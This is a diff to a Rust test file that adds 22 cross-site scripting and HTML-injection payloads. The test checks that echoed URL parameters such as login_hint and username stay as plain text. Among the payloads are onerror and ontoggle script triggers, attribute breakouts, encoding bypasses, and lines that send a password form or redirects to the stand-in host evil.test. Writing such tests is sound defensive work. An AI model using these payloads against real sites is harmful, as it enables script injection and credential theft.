@@ -23,6 +23,33 @@ const PAYLOADS: [&str; 8] = [
     "{{7*7}}{%25if(1)%25}{#-#}{####}{username}",
     "&lt;b&gt;&#60;i&#62;",
 ];
+/// More of them, for the parameters of the address: other elements, other quotes, half tags, escapes that browsers undo.
+const MORE: [&str; 22] = [
+    "<img src=x onerror=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>",
+    "<form action=https://evil.test><input name=password>",
+    "<base href=https://evil.test/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.test>",
+    "<link rel=stylesheet href=https://evil.test/x.css>",
+    "<object data=javascript:alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    "\" style=\"background:url(https://evil.test)",
+    "x\" autofocus onfocus=alert(1) x=\"",
+    "<<script>alert(1)//<</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<!--><img src=x onerror=alert(1)>",
+    "]]><img src=x onerror=alert(1)>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u{ff1c}script\u{ff1e}alert(1)",
+    "java\tscript:alert(1)",
+];
+/// Parameters that come back as text.
+const SHOWN: [&str; 3] = ["login_hint", "username", "error_description"];
 const HARMLESS: &str = "harmless";
 
 /// A document with what is new in each page left out, as its elements.
@@ -61,7 +88,9 @@ async fn parameters_of_the_address_stay_text() {
             "unknown",
         ] {
             let harmless = open(&app, path, &[(name, HARMLESS)]).await;
-            for payload in PAYLOADS {
+            // All thirty where a page shows what it is given; elsewhere the eight that tell most.
+            let more = if SHOWN.contains(&name) { &MORE[..] } else { &[] };
+            for payload in PAYLOADS.iter().chain(more).copied() {
                 let hostile = open(&app, path, &[(name, payload)]).await;
                 assert_eq!(hostile.has_left(), harmless.has_left(), "{path} {name}={payload}");
                 if let (Some(hostile), Some(harmless)) = (&hostile.answer, &harmless.answer) {
